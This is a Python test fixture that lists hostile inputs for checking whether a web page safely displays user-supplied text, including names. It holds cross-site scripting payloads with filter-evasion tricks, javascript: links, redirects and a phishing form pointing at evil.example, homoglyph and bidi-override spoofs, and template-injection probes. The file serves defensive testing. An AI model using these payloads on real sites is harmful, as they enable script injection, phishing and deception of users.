"""What people send who want to break a page: one list for every surface that shows words.

``TITLE`` is what a script in them would set the page's title to.
"""

TITLE = "broken"
_SCRIPT = f"document.title='{TITLE}'"

HOSTILE = {
    "script": f"<script>{_SCRIPT}</script>",
    "script, broken up": f"<scr<script>ipt>{_SCRIPT}</scr</script>ipt>",
    "image that fails": f'<img src=x onerror="{_SCRIPT}">',
    "svg": f"<svg/onload={_SCRIPT}>",
    "details": f"<details open ontoggle={_SCRIPT}>",
    "iframe": f'<iframe srcdoc="<script>parent.{_SCRIPT}</script>"></iframe>',
    "template": f"</template><img src=x onerror={_SCRIPT}>",
    "end of an element": f'</p></div></textarea></title><img src=x onerror="{_SCRIPT}">',
    "attribute, double": f'" onmouseover="{_SCRIPT}" autofocus onfocus="{_SCRIPT}',
    "attribute, single": f"' onmouseover='{_SCRIPT}' autofocus onfocus='{_SCRIPT}",
    "attribute, none": f"x onmouseover={_SCRIPT} ",
    "style": "<style>*{display:none!important}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:red">x</p>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=a><button>weiter</button></form>',
    "link in markdown": f"[hier klicken](javascript:{_SCRIPT})",
    "link in markdown, upper case": f"[hier](JaVaScRiPt:{_SCRIPT})",
    "link in markdown, encoded": f"[hier](&#106;avascript:{_SCRIPT})",
    "link in markdown, tab": f"[hier](java\tscript:{_SCRIPT})",
    "link with data": "[hier](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link with vbscript": "[hier](vbscript:msgbox)",
    "image in markdown": f'![x](x"onerror="{_SCRIPT})',
    "autolink": f"<javascript:{_SCRIPT}>",
    "bare script address": f"javascript:{_SCRIPT}",
    "address with markup": f'https://duisburg.de/"onmouseover="{_SCRIPT}',
    "address that pretends": "https://duisburg.de@evil.example/login",
    "homoglyphs": "https://duіsburg.de/anmelden",
    "punycode": "https://xn--dusburg-hbg.de/anmelden",
    "bidi override": "Termin \u202egpj.exe\u202c",
    "bidi isolate": "\u2066\u2067admin\u2069 sagt: gebucht",
    "bidi in an address": "https://duisburg.de/\u202efdp.exe",
    "right to left": "أحتاج موعدا <b>لجواز</b> السفر",
    "zero width": "<scr\u200bipt>" + _SCRIPT + "</scr\u200bipt>",
    "NUL": f"<scr\0ipt>{_SCRIPT}</script>",
    "template of the server": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "format of the server": "{0.__class__} {code} %(name)s %s",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;",
    "json": '{"type":"welcome","conversation_id":"x"}</script>',
    "comment": f"<!--><img src=x onerror={_SCRIPT}>-->",
    "cdata": f"<![CDATA[<img src=x onerror={_SCRIPT}>]]>",
    "very long word": "<b>" + "w" * 500,
}

# Short ones that can pass as somebody's name.
NAMES = {
    "script": f"Eva <script>{_SCRIPT}</script>",
    "image": f"Eva<img src=x onerror={_SCRIPT}>",
    "attribute": f'Eva" onmouseover="{_SCRIPT}',
    "markdown": f"[Eva](javascript:{_SCRIPT})",
    "bidi": "Eva \u202eretsuM\u202c",
    "homoglyphs": "Аdmin Stadt",
    "template": "{{7*7}} Muster",
}
